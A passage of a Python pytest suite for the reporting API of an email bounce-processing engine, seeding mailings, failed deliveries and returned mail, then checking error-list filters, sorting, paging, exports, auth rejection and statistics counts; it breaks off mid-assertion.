"""``/api/v1/errors``, ``/errors/export``, ``/statistics``, ``/mailings`` and
``/logs/{kind}/{day}``: every endpoint, bad input and auth, on both databases.

The data comes from the real writers, never from INSERTs: a mailing sent through
``POST /api/v1/messages`` and another queued in storage, their attempts recorded by
storage.messages.record (deliveries, retries, failures at each step), and returned mail -
a DSN, an auto-reply, an ARF complaint, a DSN about nobody we know - stored and processed
by the inbound pipeline. So error rows, attempts, events, bounces and the statistics
counters are what the engine itself writes (:class:`World`, also used by
test_messages_api and test_openapi).
"""

from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, select

from bounceloop.config import Settings
from bounceloop.core.severity import Convention
from bounceloop.delivery.outcome import verdict
from bounceloop.delivery.result import StepResult
from bounceloop.inbound.process import Context, run_batch
from bounceloop.observability.metrics import Metrics
from bounceloop.storage import messages as store
from bounceloop.storage import outbox, received, webhooks
from bounceloop.storage.engine import utcnow
from bounceloop.storage.errorlist import FIELDS
from bounceloop.storage.logs import columns
from bounceloop.storage.tables import messages
from bounceloop.storage.tables import suppressions as suppressions_table
from bounceloop.testing import bounces
from bounceloop.web.app import create_app
from bounceloop.web.reports import ErrorPage
from tests.web.conftest import bearer

DOMAIN = "bounces.sender.test"
SECRET = "reports-secret"
NEWS, SHOP = "news@sender.test", "shop@sender.test"
WORKER = "test-worker"
SHOP_MIME = b"From: shop@sender.test\r\nSubject: Autumn sale\r\n\r\nEverything must go.\r\n"

OK = StepResult.reply("data", 250, "2.0.0 queued as 1234", mx="mx.dest.test", ip="192.0.2.25")
UNKNOWN = StepResult.reply("rcptto", 550, "5.1.1 <x>: Recipient address rejected: User unknown",
                           mx="mx.dest.test", ip="192.0.2.25")
FULL = StepResult.reply("rcptto", 552, "5.2.2 Mailbox full, quota exceeded")
FULL_4XX = StepResult.reply("rcptto", 452, "4.2.2 Mailbox full")
GREYLISTED = StepResult.reply("rcptto", 451, "4.7.1 Greylisted, try again later")
BLOCKED = StepResult.reply("rcptto", 554, "5.7.1 Service unavailable; Client host [192.0.2.1] "
                           "blocked using zen.spamhaus.org")
DMARC = StepResult.reply("data", 550, "5.7.26 Unauthenticated email from sender.test is not "
                         "accepted due to domain's DMARC policy")
NXDOMAIN = StepResult("dns", "error", "", "5.1.2", "dead.test: domain does not exist")


def settings(tmp_path: Path, **extra: Any) -> Settings:
    """The app's settings: VERP on, so returned mail ties to its message by envelope."""
    return Settings(database_url="sqlite://", allowed_target_networks=["127.0.0.0/8"],
                    spool_dir=tmp_path, bounce_domain=DOMAIN,
                    verp_secret=SECRET, **extra)  # type: ignore[arg-type]


@pytest.fixture
def app(engine: Engine, tmp_path: Path) -> Iterator[TestClient]:
    with TestClient(create_app(engine, Metrics(), settings(tmp_path))) as c:
        yield c


class World:
    """Mail sent, delivered, failed and returned through the engine's own writers.

    ``now`` is the seeding time; the storage-queued mailing ("autumn") lives on the three
    days before it (``days[0..2]``), the API mailing ("spring") on the day of ``now``.
    """

    def __init__(self, engine: Engine, client: TestClient, rw: dict[str, str]) -> None:
        self.engine = engine
        self.client = client
        self.rw = rw
        self.ctx = Context.of(Settings(bounce_domain=DOMAIN, verp_secret=SECRET))
        self.now = utcnow()
        start = datetime.combine(self.now.date(), datetime.min.time(), tzinfo=UTC)
        self.days = [(start - timedelta(days=3 - n)).date() for n in range(3)]
        self.id: dict[str, str] = {}
        """recipient (as sent) -> message id"""
        self.mailing: dict[str, int] = {}
        self.received: dict[str, int] = {}
        """what came back -> received id"""
        self.raw: dict[str, bytes] = {}

    def at(self, day: int, hour: int, minute: int = 0) -> datetime:
        """A time on ``days[day]``."""
        return datetime.combine(self.days[day], datetime.min.time(), tzinfo=UTC) + \
            timedelta(hours=hour, minutes=minute)

    # -- the writers -----------------------------------------------------------------

    def send_api(self, name: str, recipients: list[dict[str, Any]], **body: Any
                 ) -> dict[str, Any]:
        r = self.client.post("/api/v1/messages", headers=self.rw, json={
            "from": NEWS, "recipients": recipients, "mailing": name, **body})
        assert r.status_code == 202, r.text
        sent: dict[str, Any] = r.json()
        self.mailing[name] = sent["mailing"]
        for m in sent["messages"]:
            self.id[m["recipient"]] = m["id"]
        return sent

    def send_stored(self, name: str, sender: str, rcpts: list[str], when: datetime) -> None:
        with self.engine.begin() as conn:
            mailing = store.create_mailing(conn, name=name, sender=sender, mime=SHOP_MIME,
                                           tags=[name], retry_schedule=None,
                                           max_delivery_time=None, now=when)
            ids = store.queue(conn, mailing, sender, [store.NewMessage(r, ("t",))
                                                      for r in rcpts],
                              bounce_domain=DOMAIN, verp_secret=SECRET,
                              max_delivery_time=7 * 86400, now=when)
        self.mailing[name] = mailing
        self.id.update(zip(rcpts, ids, strict=True))

    def deliver(self, rcpt: str, result: StepResult, when: datetime,
                schedule: tuple[int, ...] = (3600,)) -> None:
        """One attempt for the message to ``rcpt``, recorded as the engine records it
        (a retry ``schedule`` past the deadline makes a 4xx final: expired)."""
        jobs = outbox.claim(self.engine, [store.DELIVER], WORKER, 10, 60, when,
                            refs=[self.id[rcpt]])
        with self.engine.connect() as conn:
            [p] = store.pending(conn, jobs)
        v = verdict(result, p.recipient, p.attempts + 1, when, p.expires_at, schedule)
        store.record(self.engine, WORKER, [store.Outcome(p, result, v, when, 120)], when)

    def copy(self, rcpt: str) -> bytes:
        """The message as the recipient's MX received it."""
        return f"X-Bounceloop-Id: {self.id[rcpt]}\r\nTo: {rcpt}\r\n".encode() + SHOP_MIME

    def suppressed(self) -> list[tuple[str, str, str]]:
        with self.engine.connect() as conn:
            return [(r.value, r.reason, r.sender) for r in conn.execute(
                select(suppressions_table))]

    def envelope(self, rcpt: str) -> str:
        with self.engine.connect() as conn:
            return str(conn.execute(select(messages.c.envelope).where(
                messages.c.id == self.id[rcpt])).scalar_one())

    def receive(self, name: str, raw: bytes, to: str, when: datetime,
                convention: Convention = Convention.CODE) -> int:
        """Returned mail stored as the inbound server stores it, then processed."""
        [rid] = received.store_many(self.engine, [received.Incoming(
            raw=raw, mail_from="", rcpts=(to,), received_at=when, peer="192.0.2.7",
            helo="mx.dest.test")])
        self.received[name] = rid
        self.raw[name] = raw
        self.process(rid, when, convention)
        return rid

    def process(self, rid: int, when: datetime, convention: Convention = Convention.CODE
                ) -> None:
        run_batch(self.engine, replace(self.ctx, convention=convention), [rid],
                  clock=lambda: when)

    # -- the script ------------------------------------------------------------------

    def seed(self) -> World:
        at = self.at
        # autumn: queued in storage three days ago.
        self.send_stored("autumn", SHOP, ["gus@dest.test", "hal@other.test", "Ann@Dest.test",
                                          "ivy@dest.test", "jo@dest.test", "kim@other.test"],
                         at(0, 8))
        self.deliver("gus@dest.test", OK, at(0, 8, 1))
        self.deliver("hal@other.test", DMARC, at(0, 8, 2))
        self.deliver("Ann@Dest.test", FULL, at(0, 8, 3))
        self.deliver("ivy@dest.test", GREYLISTED, at(0, 8, 4))
        self.deliver("jo@dest.test", OK, at(0, 8, 5))
        self.deliver("kim@other.test", FULL_4XX, at(0, 8, 6), schedule=(30 * 86400,))
        self.deliver("ivy@dest.test", OK, at(1, 9, 4))
        self.receive("autoreply", bounces.autoreply("gus@dest.test", self.copy("gus@dest.test")),
                     self.envelope("gus@dest.test"), at(1, 9))
        self.receive("complaint", bounces.arf("jo@dest.test", self.copy("jo@dest.test"),
                                              sender=SHOP),
                     self.envelope("jo@dest.test"), at(2, 7))
        self.receive("stranger", bounces.dsn("stranger@else.test", b"Subject: x\r\n\r\n"),
                     "nobody@" + DOMAIN, at(2, 8))
        # Reprocessed under another severity convention: its row is replaced (history).
        self.process(self.received["stranger"], at(2, 9), Convention.STEPS_1_4)
        with self.engine.begin() as conn:
            webhooks.log_failures(conn, [{
                "time": at(1, 12), "webhook_id": 1, "event_id": 1, "job_id": 1,
                "attempt": 1, "url": "http://127.0.0.1:9/hook", "ip": "127.0.0.1",
                "status": None, "error": "refused", "description": "connection refused",
                "headers": "[]", "body": ""}])
        # spring: sent through the API now.
        self.send_api("spring", [
            {"email": "ann@dest.test", "tags": ["vip"], "fields": {"name": "Ann"}},
            {"email": "bob@dest.test"}, {"email": "cy@other.test"},
            {"email": "di@dead.test"}, {"email": "eve@other.test"},
            {"email": "fay@dest.test", "fields": {"name": "Fay"}}],
            subject="Spring", text="Hello.", tags=["spring"])
        now = self.now = utcnow()
        self.deliver("ann@dest.test", OK, now)
        self.deliver("bob@dest.test", UNKNOWN, now + timedelta(seconds=1))
        self.deliver("cy@other.test", FULL_4XX, now + timedelta(seconds=2))
        self.deliver("di@dead.test", NXDOMAIN, now + timedelta(seconds=3))
        self.deliver("eve@other.test", BLOCKED, now + timedelta(seconds=4))
        self.deliver("fay@dest.test", OK, now + timedelta(seconds=5))
        self.receive("dsn", bounces.dsn("fay@dest.test", self.copy("fay@dest.test")),
                     self.envelope("fay@dest.test"), now + timedelta(seconds=6))
        return self



@pytest.fixture
def world(engine: Engine, app: TestClient, rw: dict[str, str]) -> World:
    return World(engine, app, rw).seed()


def problem(r: Any, status: int) -> Any:
    """A 4xx answer: the status, and a JSON body with a ``detail``."""
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == "application/json", r.headers
    body = r.json()
    assert "detail" in body, body
    return body["detail"]


def errors(app: TestClient, headers: dict[str, str], query: str = "") -> dict[str, Any]:
    r = app.get(f"/api/v1/errors?{query}", headers=headers)
    assert r.status_code == 200, (query, r.text)
    body: dict[str, Any] = r.json()
    return body


ENDPOINTS = ["/api/v1/errors", "/api/v1/errors/export", "/api/v1/statistics",
             "/api/v1/mailings", "/api/v1/logs/errors/2026-11-01"]


def test_auth(app: TestClient, engine: Engine) -> None:
    revoked = bearer(engine, "read")
    with engine.begin() as conn:
        conn.exec_driver_sql("UPDATE api_tokens SET revoked_at = created_at")
    ro = bearer(engine, "read")
    for path in ENDPOINTS:
        assert "token is needed" in problem(app.get(path), 401)
        r = app.get(path, headers={"Authorization": "Bearer blt_not-a-token"})
        assert "not valid" in problem(r, 401)
        assert r.headers["www-authenticate"] == "Bearer"
        problem(app.get(path, headers=revoked), 401)
        problem(app.get(path, headers={"Authorization": "Basic dXNlcjpwdw=="}), 401)
        assert app.get(path, headers=ro).status_code == 200, path


# Current error rows of the World, by recipient:
#   autumn (3 days ago)  hal (data 550 5.7.26), Ann (rcptto 552 5.2.2), kim (rcptto 452 4.2.2,
#                        expired: soft), gus (2 days ago: an auto-reply, mailmessage)
#   no mailing           stranger (yesterday: a DSN 550 5.1.1 nobody sent; reprocessed under
#                        steps-1-4, so soft now and hard in history)
#   spring (today)       bob (rcptto 550 5.1.1), di (dns 5.1.2), eve (rcptto 554 5.7.1),
#                        fay (a DSN 550 5.1.1: mailerror)
AUTUMN = {"hal@other.test", "Ann@Dest.test", "kim@other.test", "gus@dest.test"}
SPRING = {"bob@dest.test", "di@dead.test", "eve@other.test", "fay@dest.test"}
#: The "stranger" DSN came to the bounce domain naming stranger@else.test, whom we never mailed:
#: untied (issue 16), its row is against no address (recipient "") and names him only as
#: reported_recipient.
STRANGER = ""
ALL = AUTUMN | SPRING | {STRANGER}

#: (query, the recipients of the rows it finds, how many rows); {mailing:NAME} and
#: {day:N} are filled in from the World.
FILTERS: list[tuple[str, set[str], int]] = [
    ("", ALL, 9),
    ("mailing={mailing:autumn}", AUTUMN, 4),
    ("mailing={mailing:spring}", SPRING, 4),
    ("mailing=999", set(), 0),
    ("errortype=error", {"hal@other.test", "Ann@Dest.test", "kim@other.test",
                         "bob@dest.test", "eve@other.test"}, 5),
    ("errortype=mailerror", {"fay@dest.test", STRANGER}, 2),
    ("errortype=nohost,mailmessage", {"di@dead.test", "gus@dest.test"}, 2),
    ("errortype=nohost&errortype=mailmessage", {"di@dead.test", "gus@dest.test"}, 2),
    ("step=1", {"di@dead.test"}, 1),
    ("step=5", {"gus@dest.test", STRANGER, "fay@dest.test"}, 3),
    ("step=0", set(), 0),
    ("step=1,5", {"di@dead.test", "gus@dest.test", STRANGER, "fay@dest.test"}, 4),
    ("state=rcptto", {"Ann@Dest.test", "kim@other.test", "bob@dest.test", "eve@other.test"},
     4),
    ("state=data", {"hal@other.test"}, 1),
    ("state=dns&state=bounce", {"di@dead.test", "gus@dest.test", STRANGER,
                                "fay@dest.test"}, 4),
    ("severity=hard", ALL - {"kim@other.test", "gus@dest.test", STRANGER}, 6),
    ("severity=soft", {"kim@other.test", STRANGER}, 2),
    ("reason=userunknown", {"bob@dest.test", "fay@dest.test", STRANGER}, 3),
    ("reason=blocked,authfailure", {"eve@other.test", "hal@other.test"}, 2),
    ("reason=vacation", {"gus@dest.test"}, 1),
    ("reason=expired", {"kim@other.test"}, 1),
    ("code=550", {"hal@other.test", "bob@dest.test", "fay@dest.test", STRANGER},
     4),
    ("code=5.1.1", {"bob@dest.test", "fay@dest.test", STRANGER}, 3),
    ("code=5.1.2", {"di@dead.test"}, 1),
    ("code=552,5.7.26", {"Ann@Dest.test", "hal@other.test"}, 2),
    ("code=4.2.2", {"kim@other.test"}, 1),
    ("domain=dest.test", {"gus@dest.test", "Ann@Dest.test", "bob@dest.test",
                          "fay@dest.test"}, 4),
    ("domain=OTHER.test", {"hal@other.test", "kim@other.test", "eve@other.test"}, 3),
    ("recipient=ann@dest.test", {"Ann@Dest.test"}, 1),
    ("recipient=ANN@DEST.TEST", {"Ann@Dest.test"}, 1),
    ("recipient=Bob@Dest.Test", {"bob@dest.test"}, 1),
    ("recipient=ann", set(), 0),
    ("since={day:1}", {"gus@dest.test", STRANGER} | SPRING, 6),
    ("until={day:1}", {"hal@other.test", "Ann@Dest.test", "kim@other.test"}, 3),
    ("since={day:1}&until={day:2}", {"gus@dest.test"}, 1),
    ("since={day:0}T08:02:00&until={day:0}T08:03:00", {"hal@other.test"}, 1),
    ("since={day:0}T09:02:00%2B01:00&until={day:0}T09:03:00%2B01:00", {"hal@other.test"},
     1),
    ("history=true", ALL, 10),
    ("history=true&severity=hard", ALL - {"kim@other.test", "gus@dest.test"}, 7),
    ("history=false&severity=hard&recipient=stranger@else.test", set(), 0),
    # Filters combine with AND; the values of one filter with OR.
    ("mailing={mailing:spring}&severity=hard&domain=dest.test",
     {"bob@dest.test", "fay@dest.test"}, 2),
    ("reason=userunknown&step=4", {"bob@dest.test"}, 1),
    ("code=550&errortype=error&since={day:1}", {"bob@dest.test"}, 1),
    ("errortype=error&state=rcptto&severity=hard&code=552,554",
     {"Ann@Dest.test", "eve@other.test"}, 2),
    ("mailing={mailing:autumn}&reason=userunknown", set(), 0),
]


def fill(query: str, world: World) -> str:
    for name, mailing in world.mailing.items():
        query = query.replace(f"{{mailing:{name}}}", str(mailing))
    for n, day in enumerate(world.days):
        query = query.replace(f"{{day:{n}}}", day.isoformat())
    return query


def test_each_filter_narrows(world: World, app: TestClient, ro: dict[str, str]) -> None:
    for query, expected, count in FILTERS:
        q = fill(query, world)
        body = errors(app, ro, q + "&limit=1000")
        found = [e["recipient"] for e in body["errors"]]
        assert set(found) == expected, query
        assert body["total"] == len(found) == count, query
        for e in body["errors"]:
            assert tuple(e) == FIELDS, query
            assert e["current"] or "history=true" in query, query


FARM = Path(__file__).resolve().parents[1] / "data" / "dsnfarm" / "eml"


def test_rows_explain_themselves(world: World, app: TestClient, ro: dict[str, str]) -> None:
    """The rule that decided each row's reason, the text it matched, the detector and the
    expiry (issue 18): a real MTA's report (Exim gave up after greylisting, from the DSN
    farm), stored as the inbound server stores it; tied to nothing we sent, its record is
    kept as evidence with its explanation."""
    raw = (FARM / "exim-expire-postgrey.eml").read_bytes()
    rid = world.receive("exim", raw, "nobody@" + DOMAIN, world.now + timedelta(seconds=7))
    why = ("reason", "rule", "matched", "detector", "expired")
    [row] = app.get(f"/api/v1/bounces/{rid}", headers=ro).json()["errors"]
    assert tuple(row[k] for k in why) == (
        "blocked", "phrase:blocked/greylist", "greylist", "exim", True)
    [listed] = [r for r in errors(app, ro, "tied=false")["errors"] if r["received_id"] == rid]
    assert tuple(listed[k] for k in why) == tuple(row[k] for k in why)
    # A synchronous error: bob's 550 5.1.1 at RCPT, decided by its status; no detector.
    [bob] = errors(app, ro, "recipient=bob@dest.test")["errors"]
    assert tuple(bob[k] for k in why) == ("userunknown", "status:5.1.1", "5.1.1", None, False)
    # The report's Status as Exim wrote it. The reply's 4.2.0 is of the other class, so
    # the field's 5.0.0 stands as the status too (issue 18); our own errors have none.
    assert (row["status_field"], row["extended"]) == ("5.0.0", "5.0.0")
    assert bob["status_field"] is None


def test_the_rows_are_typed(world: World, app: TestClient, ro: dict[str, str]) -> None:
    """The documented row (web.reports.ErrorRow, in the OpenAPI document) is what the API
    answers, the explanation included; test_openapi.py checks live answers against it."""
    document = app.get("/api/openapi.json").json()
    ok = document["paths"]["/api/v1/errors"]["get"]["responses"]["200"]
    assert ok["content"]["application/json"]["schema"]["$ref"] == \
        "#/components/schemas/ErrorPage"
    row = document["components"]["schemas"]["ErrorRow"]
    assert {"rule", "matched", "detector", "expired"} <= set(row["required"])
    assert tuple(row["properties"]) == FIELDS
    body = errors(app, ro, "history=true&limit=1000")
    page = ErrorPage.model_validate(body)
    assert page.total == len(page.errors) > 5
    assert {r.rule for r in page.errors if r.rule} >= {"status:5.1.1"}


def test_rows_say_what_happened(world: World, app: TestClient, ro: dict[str, str]) -> None:
    [bob] = errors(app, ro, "recipient=bob@dest.test")["errors"]
    assert {k: bob[k] for k in ("message_id", "mailing_id", "domain", "step", "state", "code",
                                "extended", "errortype", "severity", "reason", "hardbounce",
                                "received_id", "current")} == {
        "message_id": world.id["bob@dest.test"], "mailing_id": world.mailing["spring"],
        "domain": "dest.test", "step": 4, "state": "rcptto", "code": "550",
        "extended": "5.1.1", "errortype": "error", "severity": "hard",
        "reason": "userunknown", "hardbounce": True, "received_id": None, "current": True}
    assert "User unknown" in bob["description"]
    [fay] = errors(app, ro, "recipient=fay@dest.test")["errors"]
    assert (fay["received_id"], fay["state"], fay["errortype"]) == (
        world.received["dsn"], "bounce", "mailerror")
    assert (fay["tied"], fay["reported_recipient"]) == (True, None)
    old, new = errors(app, ro, "tied=false&history=true&sort=id&order=asc")["errors"]
    assert (old["current"], old["severity"], new["current"], new["severity"]) == (
        False, "hard", True, "soft")
    for row in (old, new):
        assert (row["message_id"], row["mailing_id"], row["recipient"], row["tied"],
                row["reported_recipient"]) == (None, None, "", False, "stranger@else.test")


BAD_FILTERS = [
    ("errortype=nope", "errortype is one of"),
    ("step=x", "step is a number"),
    ("step=6", "step is 0 to 5"),
    ("state=sending", "state is one of"),
    ("reason=Not%20A%20Reason", "not a reason"),
    ("code=55", "a code is a reply code"),
    ("code=5.1", "a code is a reply code"),
    ("since=2026-01-02T00:00:00&until=2026-01-01T00:00:00", "since must be before until"),
    ("since=0001-01-01T00:00:00%2B01:00", "out of range"),
    ("until=9999-12-31T23:00:00-02:00", "out of range"),
]


def test_bad_filters_are_400(app: TestClient, ro: dict[str, str]) -> None:
    for query, message in BAD_FILTERS:
        for path in ("/api/v1/errors", "/api/v1/errors/export"):
            assert message in problem(app.get(f"{path}?{query}", headers=ro), 400), query


MALFORMED = [
    "severity=medium", "sort=description", "order=up", "limit=1001", "limit=0", "start=-1",
    "after=-1", "mailing=x", "since=yesterday", "history=perhaps", "domain=" + "d" * 256,
    "recipient=" + "r" * 321, f"start={2**63}", f"mailing={2**31}", f"after={2**31}",
    # NUL is in no address or name; PostgreSQL could not even compare it.
    "recipient=ann%00@dest.test", "domain=%00", "reason=x%00",
]


def test_malformed_parameters_are_422(app: TestClient, ro: dict[str, str]) -> None:
    for query in MALFORMED:
        paging = query.split("=")[0] in ("limit", "start", "after")
        for path in ("/api/v1/errors",) if paging else ("/api/v1/errors",
                                                         "/api/v1/errors/export"):
            detail = problem(app.get(f"{path}?{query}", headers=ro), 422)
            assert detail and "loc" in detail[0] and "msg" in detail[0], query
    detail = problem(app.get("/api/v1/errors?domain=a%00b", headers=ro), 422)
    assert detail == [{"type": "value_error", "loc": ["query", "domain"],
                       "msg": "NUL (U+0000) is not allowed", "input": "a\x00b"}]


SORTABLE = ["timestamp", "id", "recipient", "domain", "errortype", "reason", "step",
            "state", "severity", "mailing_id", "code", "extended"]


def test_sorting(world: World, app: TestClient, ro: dict[str, str]) -> None:
    for sort in SORTABLE:
        for order in ("asc", "desc"):
            rows = errors(app, ro, f"sort={sort}&order={order}&history=true")["errors"]
            assert len(rows) == 10

            def key(e: dict[str, Any], sort: str = sort) -> tuple[Any, ...]:
                value = e[sort]
                if isinstance(value, str):
                    value = value.lower()  # "Ann@Dest.test": collations fold case or not
                return (value, e["id"])

            # Empty values (NULL codes, untied mailings) sort as the largest on both
            # databases: last going up, first going down.
            valued = [e for e in rows if e[sort] is not None]
            empty = [e for e in rows if e[sort] is None]
            assert valued == sorted(valued, key=key, reverse=order == "desc"), (sort, order)
            assert rows == (valued + empty if order == "asc" else empty + valued), (sort, order)
            assert len({e["id"] for e in rows}) == 10
    assert errors(app, ro, "history=true")["errors"] == errors(
        app, ro, "history=true&sort=timestamp&order=desc")["errors"]  # the default
    assert [e["recipient"] for e in errors(app, ro, "sort=timestamp&order=asc&limit=3")[
        "errors"]] == ["hal@other.test", "Ann@Dest.test", "kim@other.test"]


def test_paging(world: World, app: TestClient, ro: dict[str, str]) -> None:
    whole = errors(app, ro, "limit=1000")
    assert (whole["total"], whole["start"], whole["limit"]) == (9, 0, 1000)
    pages = []
    for start in (0, 4, 8, 12):
        page = errors(app, ro, f"start={start}&limit=4")
        assert (page["total"], page["start"], page["limit"]) == (9, start, 4)
        pages.append(page["errors"])
    assert [len(p) for p in pages] == [4, 4, 1, 0]
    assert [e for p in pages for e in p] == whole["errors"]
    assert "last_id" not in whole
    hard = errors(app, ro, "severity=hard&start=5&limit=2")
    assert hard["total"] == 6 and len(hard["errors"]) == 1
    problem(app.get("/api/v1/errors?limit=1001", headers=ro), 422)
    assert app.get("/api/v1/errors?limit=1000", headers=ro).status_code == 200


def test_incremental_sync_misses_and_repeats_nothing(world: World, app: TestClient,
                                                      ro: dict[str, str]) -> None:
    """A client syncing with ``after`` while mail keeps failing and coming back gets every
    row exactly once, in id order."""
    seen: list[int] = []
    after = 0
    more = iter(range(6))
    while True:
        body = errors(app, ro, f"after={after}&limit=3&history=true")
        ids = [e["id"] for e in body["errors"]]
        assert ids == sorted(ids) and all(i > after for i in ids)
        assert body["start"] == 0 and body["limit"] == 3
        seen += ids
        after = body["last_id"]
        assert after == (ids[-1] if ids else after)
        n = next(more, None)
        if n is None:
            if not ids:
                break
            continue
        # Between two calls: a new failure, and now and then a returned message.
        rcpt = f"new{n}@dest.test"
        world.send_stored(f"more{n}", SHOP, [rcpt], world.now)
        world.deliver(rcpt, UNKNOWN, world.now + timedelta(seconds=10 + n))
        if n % 2:
            world.receive(f"more{n}", bounces.exim(rcpt, world.copy(rcpt)),
                          world.envelope(rcpt), world.now + timedelta(seconds=20 + n))
    everything = errors(app, ro, "history=true&sort=id&order=asc&limit=1000")
    assert seen == [e["id"] for e in everything["errors"]]
    assert len(seen) == len(set(seen)) == 10 + 6 + 3
    # Nothing new: the same last_id back, no rows.
    again = errors(app, ro, f"after={after}")
    assert (again["errors"], again["last_id"]) == ([], after)
    # Filters apply to a sync too.
    hard = errors(app, ro, "after=0&severity=hard&limit=1000")["errors"]
    assert hard and all(e["severity"] == "hard" and e["current"] for e in hard)


EXPORTS = {"csv": "text/csv; charset=utf-8", "json": "application/json",
           "jsonl": "application/x-ndjson"}


def test_export(world: World, app: TestClient, ro: dict[str, str]) -> None:
    spring = f"mailing={world.mailing['spring']}&sort=recipient&order=asc"
    queries = [("", errors(app, ro, "limit=1000")["errors"]),
               (spring, errors(app, ro, spring)["errors"]),
               ("history=true&severity=soft",
                errors(app, ro, "history=true&severity=soft")["errors"]),
               ("recipient=nobody@x.test", [])]
    for (fmt, media), (query, listed) in itertools.product(EXPORTS.items(), queries):
        r = app.get(f"/api/v1/errors/export?format={fmt}&{query}", headers=ro)
        assert r.status_code == 200, r.text
        assert r.headers["content-type"] == media
        assert r.headers["content-disposition"] == f'attachment; filename="errors.{fmt}"'
        if fmt == "csv":
            table = list(csv.reader(io.StringIO(r.text)))
            assert tuple(table[0]) == FIELDS
            got = [dict(zip(FIELDS, row, strict=True)) for row in table[1:]]
            assert [int(g["id"]) for g in got] == [e["id"] for e in listed], query
            for g, e in zip(got, listed, strict=True):
                assert g["recipient"] == e["recipient"]
                assert g["current"] == ("true" if e["current"] else "false")
                assert g["code"] == (e["code"] or "")
        else:
            if fmt == "json":
                got = json.loads(r.text)
            else:
                assert r.text == "" or r.text.endswith("\n")
                got = [json.loads(line) for line in r.text.splitlines()]
            # The same instant; exports write "+00:00" where the JSON API writes "Z".
            assert [{**g, "timestamp": g["timestamp"].replace("+00:00", "Z")} for g in got
                    ] == listed, query
    assert app.get("/api/v1/errors/export", headers=ro).headers["content-type"].startswith(
        "text/csv")  # the default
    problem(app.get("/api/v1/errors/export?format=xml", headers=ro), 422)


def stats(app: TestClient, ro: dict[str, str], query: str = "") -> dict[str, Any]:
    r = app.get(f"/api/v1/statistics?{query}", headers=ro)
    assert r.status_code == 200, r.text
    body: dict[str, Any] = r.json()
    return body


def breakdown(report: dict[str, Any], name: str) -> dict[str, int]:
    return {b["key"]: b["count"] for b in report[name]}


def test_statistics(world: World, app: TestClient, ro: dict[str, str]) -> None:
    d0, d1, d2 = world.days
    today = world.now.date()
    r = stats(app, ro, f"since={d0}&until={today}")
    assert (r["mailing"], r["since"], r["until"]) == (None, d0.isoformat(),
                                                      today.isoformat())
    # The stranger's DSN is untied: it counts in no statistic (issue 16).
    assert r["totals"] == {"sent": 12, "delivered": 5, "deferred": 2, "failed": 6,
                           "bounced": 1, "returned": 1, "complaint": 1}
    zero = dict.fromkeys(r["totals"], 0)
    assert r["days"] == [
        {"day": d0.isoformat(), **zero, "sent": 6, "delivered": 2, "deferred": 1,
         "failed": 3},
        {"day": d1.isoformat(), **zero, "delivered": 1, "returned": 1},
        {"day": d2.isoformat(), **zero, "complaint": 1},
        {"day": today.isoformat(), **zero, "sent": 6, "delivered": 2, "deferred": 1,
         "failed": 3, "bounced": 1}]
    assert breakdown(r, "severity") == {"hard": 6, "soft": 1, "": 1}
    assert breakdown(r, "errortype") == {"error": 5, "mailerror": 1, "mailmessage": 1,
                                         "nohost": 1}
    assert breakdown(r, "reason") == {"userunknown": 2, "authfailure": 1, "blocked": 1,
                                      "hostunknown": 1, "mailboxfull": 1, "vacation": 1,
                                      "expired": 1}
    assert breakdown(r, "step") == {"4": 5, "5": 2, "1": 1}
    assert breakdown(r, "domain") == {"dest.test": 4, "other.test": 3, "dead.test": 1}
    assert [b["key"] for b in r["domain"]] == ["dest.test", "other.test",
                                               "dead.test"]  # largest first
    # Breakdowns add up to the error rows: failed + bounced + returned.
    assert sum(breakdown(r, "severity").values()) == 6 + 1 + 1
    # Automatic suppressions (the synchronous failures here are recorded without the
    # rules): fay's bounce and jo's complaint - never the stranger, whom we never mailed.
    assert sorted(world.suppressed()) == [("fay@dest.test", "userunknown", ""),
                                          ("jo@dest.test", "complaint", SHOP)]
    assert r["suppressed"] == r["suppressions_added"] == 2
    # The default range is the last 30 days up to today.
    default = stats(app, ro)
    assert (default["since"], default["until"]) == (
        (today - timedelta(days=29)).isoformat(), today.isoformat())
    assert len(default["days"]) == 30 and default["totals"] == r["totals"]
    # A range of one day, and one with nothing in it.
    one = stats(app, ro, f"since={d1}&until={d1}")
    assert one["totals"] == {**zero, "delivered": 1, "returned": 1}
    assert breakdown(one, "reason") == {"vacation": 1}
    empty = stats(app, ro, "since=2020-01-01&until=2020-01-31")
    assert empty["totals"] == zero and len(empty["days"]) == 31
    assert all(empty[b] == [] for b in ("severity", "errortype", "reason", "domain", "step"))


def test_statistics_per_mailing(world: World, app: TestClient, ro: dict[str, str]) -> None:
    d0 = world.days[0]
    today = world.now.date()
    autumn = stats(app, ro, f"mailing={world.mailing['autumn']}&since={d0}&until={today}")
    assert autumn["mailing"] == world.mailing["autumn"]
    assert autumn["totals"] == {"sent": 6, "delivered": 3, "deferred": 1, "failed": 3,
                                "bounced": 0, "returned": 1, "complaint": 1}
    assert breakdown(autumn, "reason") == {"authfailure": 1, "mailboxfull": 1, "expired": 1,
                                           "vacation": 1}
    spring = stats(app, ro, f"mailing={world.mailing['spring']}&since={d0}&until={today}")
    assert spring["totals"] == {"sent": 6, "delivered": 2, "deferred": 1, "failed": 3,
                                "bounced": 1, "returned": 0, "complaint": 0}
    assert breakdown(spring, "domain") == {"dest.test": 2, "dead.test": 1, "other.test": 1}
    every = stats(app, ro, f"since={d0}&until={today}")
    for outcome, n in every["totals"].items():
        # The stranger's bounce belongs to no mailing and is untied: nothing counts it.
        assert n == autumn["totals"][outcome] + spring["totals"][outcome], outcome
    nothing = stats(app, ro, f"mailing=999&since={d0}&until={today}")
    assert set(nothing["totals"].values()) == {0}


def test_a_reprocessing_moves_the_counts(world: World, app: TestClient,
                                         ro: dict[str, str]) -> None:
    """Fay's DSN read again under the steps-1-4 convention: its row becomes soft. The
    counters move with it - off hard, onto soft, the day it arrived - and the error list
    shows the new row (the old one in history)."""
    today = world.now.date()
    query = f"since={today}&until={today}&mailing={world.mailing['spring']}"
    before = stats(app, ro, query)
    world.process(world.received["dsn"], world.now + timedelta(minutes=5),
                  Convention.STEPS_1_4)
    after = stats(app, ro, query)
    assert breakdown(before, "severity") == {"hard": 4}
    assert breakdown(after, "severity") == {"hard": 3, "soft": 1}
    assert after["totals"] == before["totals"]  # still one bounce
    assert {k: after[k] for k in ("errortype", "reason", "step", "domain")} == {
